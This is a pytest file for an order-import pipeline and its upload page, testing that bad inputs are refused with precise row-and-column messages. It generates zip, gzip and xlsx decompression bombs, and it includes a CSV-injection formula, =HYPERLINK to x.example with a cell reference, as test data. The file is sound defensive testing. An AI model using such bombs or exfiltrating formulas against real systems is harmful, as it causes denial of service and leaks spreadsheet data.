"""The bad-input corpus (tests/ingest/corpus/ plus files built here at run time) through the
import pipeline in strict mode and through the upload page: every file gets a precise message
(file, row, column, value, what was expected) and nothing of it is loaded.

Large and compressed inputs are generated in the test (a 200 MiB zip bomb compresses to
~200 KB), so the repository holds only the small text files.
"""

from __future__ import annotations

import gzip
import io
import re
import struct
import zipfile
from collections.abc import Callable
from pathlib import Path
from urllib.parse import parse_qs, urlsplit

import openpyxl
import pyarrow as pa
import pytest
from django.conf import settings as django_settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from shopops.core.errors import ValidationError
from shopops.core.roles import Role
from shopops.ingest.models import ImportJob
from shopops.ingest.pipeline import import_file
from shopops.ingest.profiles import profiles
from shopops.ingest.readers import first_record, open_source
from shopops.ingest.selectors import upload_root
from shopops.team.services import role_groups_sync, user_create
from shopops.warehouse.loader import load

pytestmark = pytest.mark.django_db

CORPUS = Path(__file__).parent / "corpus"
HEADER = "订单编号,买家ID,订单状态,下单时间,付款时间,实付金额\n"
ROW = "T{i},u{i},交易成功,2025-11-11 00:01:00,2025-11-11 00:02:00,10.00\n"
MIB = 1 << 20


# --- builders of the generated files ---------------------------------------------------------

def _zip(path: Path, members: dict[str, bytes]) -> Path:
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf:
        for name, data in members.items():
            zf.writestr(name, data)
    return path


def _patch_sizes(path: Path, size: int) -> Path:
    """Rewrite the uncompressed size a zip declares for its member (local header and directory)."""
    data = bytearray(path.read_bytes())
    local = data.index(b"PK\x03\x04")
    struct.pack_into("<I", data, local + 22, size)
    central = data.index(b"PK\x01\x02")
    struct.pack_into("<I", data, central + 24, size)
    path.write_bytes(bytes(data))
    return path


def zip_claiming_1_gib(tmp: Path) -> Path:
    return _patch_sizes(_zip(tmp / "claims_1gb.zip", {"orders.csv": (HEADER + ROW.format(i=1)).encode()}), 1 << 30)


def zip_bomb(tmp: Path) -> Path:
    path = tmp / "bomb.zip"
    with zipfile.ZipFile(path, "w", compression=zipfile.ZIP_DEFLATED) as zf, zf.open("orders.csv", "w") as member:
        member.write(HEADER.encode())
        zeros = b"0" * MIB
        for _ in range(200):
            member.write(zeros)
    return path


def zip_lying_small(tmp: Path) -> Path:
    body = (HEADER + "".join(ROW.format(i=i) for i in range(20_000))).encode()
    return _patch_sizes(_zip(tmp / "lies.zip", {"orders.csv": body}), 1000)


def nested_zip(tmp: Path) -> Path:
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w") as zf:
        zf.writestr("orders.csv", HEADER + ROW.format(i=1))
    return _zip(tmp / "nested.zip", {"inner.zip": inner.getvalue()})


def gzip_bomb(tmp: Path) -> Path:
    path = tmp / "bomb.csv.gz"
    with gzip.open(path, "wb", compresslevel=9) as fh:
        fh.write(HEADER.encode())
        line = ROW.format(i=1).encode() * 4096
        while fh.tell() < 100 * MIB:
            fh.write(line)
    return path


def truncated_gzip(tmp: Path) -> Path:
    data = gzip.compress((HEADER + "".join(ROW.format(i=i) for i in range(5000))).encode())
    path = tmp / "cut.csv.gz"
    path.write_bytes(data[: len(data) // 2])
    return path


def _workbook(rows: int = 3) -> bytes:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.append(HEADER.strip().split(","))
    for i in range(rows):
        ws.append(ROW.format(i=i).strip().split(","))
    out = io.BytesIO()
    wb.save(out)
    return out.getvalue()


def truncated_xlsx(tmp: Path) -> Path:
    data = _workbook(200)
    path = tmp / "cut.xlsx"
    path.write_bytes(data[: len(data) * 2 // 3])
    return path


def xlsx_bomb(tmp: Path) -> Path:
    path = tmp / "bomb.xlsx"
    path.write_bytes(_workbook())
    with zipfile.ZipFile(path, "a", compression=zipfile.ZIP_DEFLATED) as zf, zf.open("xl/media/padding.bin", "w") as part:
        zeros = b"\0" * MIB
        for _ in range(200):
            part.write(zeros)
    return path


def utf16(tmp: Path) -> Path:
    path = tmp / "unicode_text.csv"
    path.write_bytes((HEADER + ROW.format(i=1)).encode("utf-16"))
    return path


def huge_cell(tmp: Path) -> Path:
    path = tmp / "huge_cell.csv"
    path.write_text(HEADER + ROW.format(i=1) + ROW.format(i=2).replace("u2", "u" * (2 * MIB)), encoding="utf-8")
    return path


def empty_zip(tmp: Path) -> Path:
    path = tmp / "empty.zip"
    zipfile.ZipFile(path, "w").close()  # 22 bytes: only the end record (PK\x05\x06), no member
    return path


def corpus(name: str) -> Callable[[Path], Path]:
    return lambda tmp: CORPUS / name


# --- the cases ----------------------------------------------------------------------------------
# (builder, whole-file error regex or None, {(row, column): reason regex} rejected in strict mode)

FILE_ERRORS = {
    "truncated.csv": (corpus("truncated.csv"), r"truncated.csv: row 4 has a different number of fields than the header "
                      r"\(Expected 6 columns, got 3: T3,u3,交易成\); the file may be truncated"),
    "unclosed_quote.csv": (corpus("unclosed_quote.csv"), r"unclosed_quote.csv: row 3 has a different number of fields"),
    "duplicate_headers.csv": (corpus("duplicate_headers.csv"), r"duplicate_headers.csv: the header repeats column\(s\) 买家ID"),
    "latin1.csv": (corpus("latin1.csv"), r"latin1.csv: the text is neither UTF-8 nor GBK/GB18030"),
    "unicode_text.csv": (utf16, r"unicode_text.csv: the text is UTF-16 .*save the export as UTF-8 or GBK CSV"),
    "claims_1gb.zip": (zip_claiming_1_gib, r"claims_1gb.zip: orders.csv unpacks to 1,024.0 MiB from 0.0 MiB \(ratio [\d,]+:1, "
                       r"at most 100:1, SHOPOPS_IMPORT_MAX_RATIO\); this looks like a zip bomb"),
    "bomb.zip": (zip_bomb, r"bomb.zip: orders.csv unpacks to 200.0 MiB from 0.2 MiB \(ratio 1,0\d\d:1, at most 100:1"),
    "lies.zip": (zip_lying_small, r"lies.zip: the zip file is truncated or corrupt \(Bad CRC-32 for file 'orders.csv'\)"),
    "empty.zip": (empty_zip, r"empty.zip: a zip must hold exactly one data file; it holds 0"),
    "nested.zip": (nested_zip, r"nested.zip: holds inner.zip, which is itself an archive or a workbook"),
    "bomb.csv.gz": (gzip_bomb, r"bomb.csv.gz: unpacks to more than [\d.]+ MiB \(the cap for a file of this size: .*\); "
                    r"refused as a possible zip bomb"),
    "cut.csv.gz": (truncated_gzip, r"cut.csv.gz: the compressed data is truncated or corrupt"),
    "cut.xlsx": (truncated_xlsx, r"cut.xlsx: (the zip/xlsx file is truncated or corrupt|not a readable .xlsx workbook)"),
    "bomb.xlsx": (xlsx_bomb, r"bomb.xlsx: the workbook unpacks to 200.\d MiB from 0.\d MiB .*zip bomb"),
}

CONTROL = r"contains a control character or a byte-order mark \(U\+FEFF\)"
ROW_REJECTS = {
    "bom_in_the_middle.csv": (corpus("bom_in_the_middle.csv"), {
        (3, "订单编号"): CONTROL, (3, "下单时间"): "expected a date and time", (3, "实付金额"): "expected an amount"}),
    "control_characters.csv": (corpus("control_characters.csv"), {(3, "买家ID"): CONTROL, (4, "订单编号"): CONTROL}),
    "formulas.csv": (corpus("formulas.csv"), {(3, "实付金额"): r"expected an amount like 1299.00"}),
    "huge_cell.csv": (huge_cell, {(3, "买家ID"): r"the value is longer than 10,000 characters"}),
}


@pytest.fixture
def store(warehouse):
    load(warehouse, "stores", pa.table({
        "store_id": ["tmall"], "platform": ["tmall"], "name": ["天猫旗舰店"], "currency": ["CNY"],
        "time_zone": ["Asia/Shanghai"],
    }))
    return warehouse


def strict_import(con, path: Path):
    return import_file(path, profile=profiles()["shopops_orders"], con=con, store_id="tmall", strict=True)


@pytest.mark.parametrize("name", list(FILE_ERRORS))
def test_a_broken_file_is_refused_whole_with_a_precise_message(store, tmp_path, name):
    build, message = FILE_ERRORS[name]
    with pytest.raises(ValidationError, match=message):
        strict_import(store, build(tmp_path))
    assert store.table("orders").count().execute() == 0


@pytest.mark.parametrize("name", list(ROW_REJECTS))
def test_bad_values_are_named_by_row_and_column_and_strict_mode_loads_nothing(store, tmp_path, name):
    build, expected = ROW_REJECTS[name]
    outcome = strict_import(store, build(tmp_path))
    assert not outcome.loaded
    got = {(r.row, r.column): r.reason for r in outcome.rejects}
    for where, reason in expected.items():
        assert where in got and re.search(reason, got[where]), (where, got)
    assert all(len(r.value) <= 2000 for r in outcome.rejects)  # a 2 MiB cell is not copied whole
    assert store.table("orders").count().execute() == 0


def test_mixed_line_endings_load_every_row(store):
    outcome = strict_import(store, CORPUS / "mixed_line_endings.csv")
    assert outcome.loaded and outcome.rows_read == 3 and not outcome.rejects
    assert sorted(store.table("orders").order_id.execute()) == ["T1", "T2", "T3"]


@pytest.mark.parametrize("ending", ["", "\n", "\r\n"])
def test_a_file_of_only_its_header_loads_no_row_with_or_without_a_line_end(store, tmp_path, ending):
    """An export of a day without orders: the header alone. Without a line end after it the CSV reader used to
    fail with "Could not skip initial 1 rows from CSV file" on the upload page (English, in the Chinese UI)."""
    raw = (HEADER.strip() + ending).encode("utf-8")
    for name, packed in (("header.csv", raw), ("header.csv.gz", gzip.compress(raw))):
        path = tmp_path / name
        path.write_bytes(packed)
        with open_source(path) as source:  # what the upload page reads to suggest a profile
            assert source.headers == tuple(HEADER.strip().split(",")) and first_record(source) is None, name
        outcome = strict_import(store, path)
        assert (outcome.rows_read, outcome.inserted, outcome.rejects) == (0, 0, []), name
    assert store.table("orders").count().execute() == 0


def test_formulas_in_text_are_kept_as_text(store, tmp_path):
    text = (CORPUS / "formulas.csv").read_text(encoding="utf-8").replace(",=1+1\n", ",20.00\n")
    path = tmp_path / "formulas_ok.csv"
    path.write_text(text, encoding="utf-8")
    assert strict_import(store, path).loaded
    buyers = dict(zip(*[store.table("orders").order_by("order_id")[c].execute() for c in ("order_id", "customer_id")],
                      strict=True))
    assert buyers == {"T1": '=HYPERLINK("http://x.example/?"&A1,"点我")', "T2": "@SUM(1+1)"}


# --- the same files through the upload page -------------------------------------------------

@pytest.fixture
def director(client, db, settings):
    settings.SHOPOPS_TASKS_IMMEDIATE = True
    role_groups_sync()
    user_create(username="director", password="a-long-test-password", role=Role.OPS_DIRECTOR)
    client.login(username="director", password="a-long-test-password")
    return client


def _upload(client, path: Path, name: str) -> tuple[str, str]:
    response = client.post(reverse("ingest:upload"), {"files": [SimpleUploadedFile(name, path.read_bytes())]})
    assert response.status_code == 302, response.content.decode()[:500]
    batch = parse_qs(urlsplit(response["Location"]).query)["batch"][0]
    html = client.get(reverse("ingest:upload"), {"batch": batch}).content.decode()
    return batch, html


@pytest.mark.parametrize("name", ["claims_1gb.zip", "nested.zip", "bomb.csv.gz", "duplicate_headers.csv",
                                  "unicode_text.csv", "cut.xlsx", "bomb.xlsx", "truncated.csv"])
def test_the_upload_page_names_what_is_wrong(director, store, tmp_path, name):
    build, message = FILE_ERRORS[name]
    path = build(tmp_path)
    director.cookies[django_settings.LANGUAGE_COOKIE_NAME] = "en"  # the messages above are the English wording
    batch, html = _upload(director, path, name)
    row = re.search(r'<tr data-upload="' + re.escape(name) + r'".*?</tr>(\s*<tr class="row-error">.*?</tr>)?', html, re.S)
    assert row, html[:2000]
    if "data-file-error" in row.group(0):  # refused when the page reads the file's head
        plain = re.sub(r"&#x27;|&#39;", "'", row.group(0)).replace("&quot;", '"').replace("&amp;", "&")
        assert re.search(message, plain), plain
        assert "<select" not in row.group(0)  # nothing to import
    else:  # its head is fine (a cut end, a bomb after the header): the job says what is wrong
        assert name in ("truncated.csv", "bomb.csv.gz")
        prefix = re.search(r'name="(f[0-9a-f]+)-name" value="' + re.escape(name) + '"', html).group(1)
        director.post(reverse("ingest:start"), {"batch": batch, f"{prefix}-name": name, f"{prefix}-include": "on",
                                                f"{prefix}-profile": "shopops_orders", f"{prefix}-store": "tmall",
                                                f"{prefix}-strict": "on"})
        job = ImportJob.objects.get()
        assert job.status == "failed" and re.search(message, job.error), job.error
    assert store.table("orders").count().execute() == 0


# what a whole-file message says once the file's own name, numbers, limits' setting names and the
# library's quoted detail (in parentheses) are taken out: in the Chinese UI no English word may be left
_KEPT_AS_IS = re.compile(r"SHOPOPS_[A-Z_]+|[\w.-]+\.(csv|zip|gz|xlsx)|\(.*?\)|（[^（）]*[A-Za-z][^（）]*）|MiB|CSV|UTF-8|UTF-16|GBK|GB18030|Excel|zip|xlsx")


@pytest.mark.parametrize("name", ["claims_1gb.zip", "nested.zip", "bomb.csv.gz", "duplicate_headers.csv",
                                  "unicode_text.csv", "cut.xlsx", "bomb.xlsx", "truncated.csv", "latin1.csv"])
def test_the_upload_page_says_what_is_wrong_in_chinese(director, store, tmp_path, name):
    build, message = FILE_ERRORS[name]
    batch, html = _upload(director, build(tmp_path), name)  # no language chosen: the default, zh-Hans
    row = re.search(r'<tr data-upload="' + re.escape(name) + r'".*?</tr>', html, re.S).group(0)
    if "data-file-error" in row:
        shown = re.search(r"data-file-error>(.*?)</div>", row, re.S).group(1)
    else:  # the job finds it: its page says it
        prefix = re.search(r'name="(f[0-9a-f]+)-name" value="' + re.escape(name) + '"', html).group(1)
        director.post(reverse("ingest:start"), {"batch": batch, f"{prefix}-name": name, f"{prefix}-include": "on",
                                                f"{prefix}-profile": "shopops_orders", f"{prefix}-store": "tmall",
                                                f"{prefix}-strict": "on"})
        job = ImportJob.objects.get()
        assert re.search(message, job.error)  # stored in English (logs, API) ...
        detail = director.get(reverse("ingest:job", args=[job.pk])).content.decode()
        shown = re.search(r"data-job-error>(.*?)</div>", detail, re.S).group(1)  # ... shown in Chinese
    shown = re.sub(r"&#x27;|&#39;", "'", shown).replace("&quot;", '"').replace("&amp;", "&")
    assert shown.startswith(f"{name}："), shown
    assert re.search(r"[\u4e00-\u9fff]{4}", shown), shown
    leftover = re.findall(r"[A-Za-z]{3,}", _KEPT_AS_IS.sub(" ", shown))
    assert leftover == [], (shown, leftover)


@pytest.mark.parametrize("name", ["control_characters.csv", "huge_cell.csv"])
def test_strict_upload_of_bad_values_is_rejected_whole_with_the_rows_named(director, store, tmp_path, name):
    build, expected = ROW_REJECTS[name]
    batch, html = _upload(director, build(tmp_path), name)
    prefix = re.search(r'name="(f[0-9a-f]+)-name" value="' + re.escape(name) + '"', html).group(1)
    director.post(reverse("ingest:start"), {"batch": batch, f"{prefix}-name": name, f"{prefix}-include": "on",
                                            f"{prefix}-profile": "shopops_orders", f"{prefix}-store": "tmall",
                                            f"{prefix}-strict": "on"})
    job = ImportJob.objects.get()
    assert job.status == "rejected" and job.rows_inserted == 0
    director.cookies[django_settings.LANGUAGE_COOKIE_NAME] = "en"  # the reasons below are the English wording
    detail = director.get(reverse("ingest:job", args=[job.pk])).content.decode()
    for (row, column), reason in expected.items():
        assert re.search(reason, detail) and column in detail
    if name == "control_characters.csv":  # kept visible, and storable in PostgreSQL (no NUL in text)
        assert set(job.rejects.values_list("value", flat=True)) == {"u\\x002", "T3\\x1b[31m"}
    assert store.table("orders").count().execute() == 0


def test_an_upload_over_the_limit_is_stopped_with_a_clear_message(director, store, settings):
    settings.SHOPOPS_UPLOAD_MAX_BYTES = 4096
    big = (HEADER + "".join(ROW.format(i=i) for i in range(200))).encode()
    response = director.post(reverse("ingest:upload"), {"files": [SimpleUploadedFile("big.csv", big)]})
    html = response.content.decode()
    assert response.status_code == 400
    assert "上传的文件超过 4.0 KiB（至少 " in html and "什么也没有保存" in html
    assert not list(upload_root().rglob("big.csv"))  # nothing of it kept
    small = director.post(reverse("ingest:upload"), {"files": [SimpleUploadedFile("small.csv", big[:1000])]})
    assert small.status_code == 302
